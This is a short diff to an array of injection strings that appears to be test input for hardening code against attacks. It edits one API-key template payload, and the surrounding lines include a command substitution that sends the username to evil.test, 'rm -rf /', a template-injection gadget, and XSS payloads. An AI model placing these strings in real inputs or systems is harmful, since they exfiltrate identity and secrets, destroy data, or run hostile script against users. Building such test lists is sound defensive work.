@@ -29,7 +29,7 @@ export const injections: readonly string[] = [
   '$(curl https://evil.test/$(whoami))',
   '`rm -rf /`',
   '{{constructor.constructor("return process")()}}',
-  '${process.env.AI_API_KEY}',
+  '#{process.env.AI_API_KEY}',
   '<script>fetch("https://evil.test")</script>',
   '<img src=x onerror=alert(1)>',
   '<svg onload=alert(1)>',
